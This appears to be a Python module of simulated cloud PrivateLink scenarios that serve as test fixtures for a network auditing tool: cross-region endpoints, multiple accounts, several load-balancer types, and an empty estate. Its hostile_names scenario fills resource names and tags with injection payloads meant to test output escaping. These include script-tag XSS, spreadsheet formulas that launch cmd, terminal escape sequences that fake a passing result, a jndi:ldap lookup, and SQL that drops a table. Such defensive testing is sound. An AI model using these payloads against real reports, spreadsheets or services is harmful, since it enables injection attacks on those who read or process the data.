"""Ready-made deployments: the tutorial, a broken estate, and the shapes that trip auditors up."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass

from auditor.simulator.broken import broken
from auditor.simulator.objects import BalancerServer, SecurityGroup
from auditor.simulator.paths import (
    CONSUMER,
    PROVIDER,
    add_path,
    allow,
    consumer_network,
    one_zone,
    provider_network,
    tutorial,
)
from auditor.simulator.world import World

THIRD = "2233445566778899"


def one_consumer_many_services() -> World:
    """One endpoint VPC that uses twelve services of one provider, each with its own CLB."""
    world = tutorial()
    consumer, provider = consumer_network(world), provider_network(world)
    for number in range(1, 12):
        add_path(world, consumer, provider, f"service{number:02d}", [80])
    return world


def three_accounts() -> World:
    """One provider and two consumers with identical address blocks; one consumer has temporary keys."""
    world = tutorial()
    world.add_account(THIRD, "second-consumer", session=True, identity_type="AssumedRoleUser")
    vpc = world.add_vpc(THIRD, "10.10.0.0/16", name="VPC 1")
    vswitch = world.add_vswitch(vpc, "eu-central-1b", "10.10.2.0/24", name="clients-b")
    second = world.add_vswitch(vpc, "eu-central-1a", "10.10.1.0/24", name="clients-a")
    clients = world.add_security_group(vpc, name="clients")
    world.add_instance(vswitch, [clients.security_group_id], name="ECS 1")
    group = world.add_security_group(vpc, [allow(80, "10.10.0.0/16")], name="endpoint")
    service = next(iter(world.services.values()))
    service.users.append(THIRD)
    world.add_endpoint(vpc, service, [vswitch, second], [group], accepted=True, name="orders-second")
    return world


def cross_region() -> World:
    """A service of eu-central-1 that an endpoint of ap-southeast-1 uses through cross-region access."""
    world = tutorial()
    service = next(iter(world.services.values()))
    service.supported_regions.append(("ap-southeast-1", "Available", "Normal"))
    vpc = world.add_vpc(CONSUMER, "10.20.0.0/16", region_id="ap-southeast-1", name="remote")
    vswitches = [
        world.add_vswitch(vpc, f"ap-southeast-1{zone}", f"10.20.{number}.0/24") for number, zone in enumerate("ab", 1)
    ]
    group = world.add_security_group(vpc, [allow(80, "10.20.0.0/16")], name="endpoint")
    endpoint = world.add_endpoint(
        vpc, service, vswitches, [group], accepted=True, name="orders-remote", cross_region_bandwidth=100
    )
    for zone, resource in zip(endpoint.zones, service.resources, strict=True):
        zone.resource_id = resource.resource_id
    return world


def same_account() -> World:
    """Endpoint and service belong to one account."""
    world = tutorial()
    vpc = world.add_vpc(PROVIDER, "172.16.0.0/16", name="internal clients")
    vswitches = [
        world.add_vswitch(vpc, f"eu-central-1{zone}", f"172.16.{number}.0/24") for number, zone in enumerate("ab", 1)
    ]
    group = world.add_security_group(vpc, [allow(80, "172.16.0.0/16")], name="endpoint")
    service = next(iter(world.services.values()))
    world.add_endpoint(vpc, service, vswitches, [group], accepted=True, name="orders-internal")
    return world


def other_balancers() -> World:
    """Services on an NLB, an ALB and a GWLB in two zones next to the tutorial's CLBs."""
    world = tutorial()
    consumer, provider = consumer_network(world), provider_network(world)
    group = world.add_security_group(consumer.vpc, [allow(443, "10.10.0.0/16"), allow(80, "10.10.0.0/16")])
    backends = list(world.instances.values())[1:3]
    for kind, protocol, port in (("nlb", "TCP", 443), ("alb", "HTTP", 80), ("gwlb", "", 0)):
        balancer = world.add_balancer(
            kind, [provider.zone_b, provider.zone_a], name=f"{kind}-front", tags={"env": "prod"}
        )
        servers = [
            BalancerServer(item.instance_id, item.private_ip, port or 6081, zone_id=item.zone_id) for item in backends
        ]
        servers_group = world.add_balancer_group(balancer, servers, protocol=protocol or "GENEVE", name=kind)
        world.add_balancer_listener(balancer, protocol, port, servers_group)
        service_type = "GatewayLoadBalancer" if kind == "gwlb" else "Interface"
        service = world.add_service(PROVIDER, users=[CONSUMER], resource_type=kind, service_type=service_type)
        for zone in ("eu-central-1b", "eu-central-1a"):
            world.attach_resource(service, balancer, zone)
        groups: list[SecurityGroup] = [] if kind == "gwlb" else [group]
        world.add_endpoint(
            consumer.vpc, service, [consumer.zone_b, consumer.zone_a], groups, accepted=True, name=f"{kind}-endpoint"
        )
    return world


#: Texts that a tenant can put into names: markup, formulas, terminal escapes, direction marks, control characters.
HOSTILE_TEXTS = (
    "<script>alert('x')</script>",
    '"><img src=x onerror=alert(1)>',
    '=HYPERLINK("http://203.0.113.9","open")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "\x1b[2J\x1b[31mall checks passed\x1b[0m",
    "\x1b]8;;http://203.0.113.9\x07click\x1b]8;;\x07",
    "\u202egnp.exe",
    "\u200bzero\u200bwidth\ufeff",
    "Ünïcødé 负载均衡 🚀",
    "line one\r\nline two\ttab",
    "{{ 7*7 }} {% raw %} ${jndi:ldap://203.0.113.9/a}",
    "'; drop table findings; --",
    "| pipe | `code` [link](javascript:alert(1)) |",
    "]]><!-- comment --> &amp; &lt;",
    "%s %d %n {0} {name!r}",
    "a" * 128,
    "NULL",
    "",
)


def hostile_names() -> World:
    """The tutorial and more paths whose names, descriptions and tags are hostile."""
    world = tutorial()
    consumer, provider = consumer_network(world), provider_network(world)
    for number in range(3):
        add_path(world, consumer, provider, f"path{number}", [80])
    texts = _Texts()
    for service in world.services.values():
        service.description = texts.next()
        service.tags = {texts.next() or "env": texts.next()}
    for endpoint in world.endpoints.values():
        endpoint.name, endpoint.description = texts.next(), texts.next()
        endpoint.tags = {texts.next() or "owner": texts.next()}
        endpoint.policy_document = texts.next()
    for clb in world.clbs.values():
        clb.name = texts.next()
        clb.tags = {texts.next() or "env": texts.next()}
        for listener in clb.listeners:
            listener.description = texts.next()
    for group in world.security_groups.values():
        group.name, group.description = texts.next(), texts.next()
        for rule in group.rules:
            rule.description = texts.next()
    for instance in world.instances.values():
        instance.name = texts.next()
    for vpc in world.vpcs.values():
        vpc.name, vpc.description = texts.next(), texts.next()
    for vswitch in world.vswitches.values():
        vswitch.name = texts.next()
    return world


@dataclass
class _Texts:
    position: int = 0

    def next(self) -> str:
        self.position += 1
        return HOSTILE_TEXTS[self.position % len(HOSTILE_TEXTS)]


def empty() -> World:
    """Two accounts that own nothing; the consumer has not activated PrivateLink."""
    world = World()
    world.add_account(PROVIDER, "provider")
    world.add_account(CONSUMER, "consumer", privatelink_open=False)
    return world


#: Every scenario by name.
SCENARIOS: dict[str, Callable[[], World]] = {
    "tutorial": tutorial,
    "one-zone": one_zone,
    "broken": broken,
    "one-consumer-many-services": one_consumer_many_services,
    "three-accounts": three_accounts,
    "cross-region": cross_region,
    "same-account": same_account,
    "nlb": other_balancers,
    "hostile-names": hostile_names,
    "empty": empty,
}
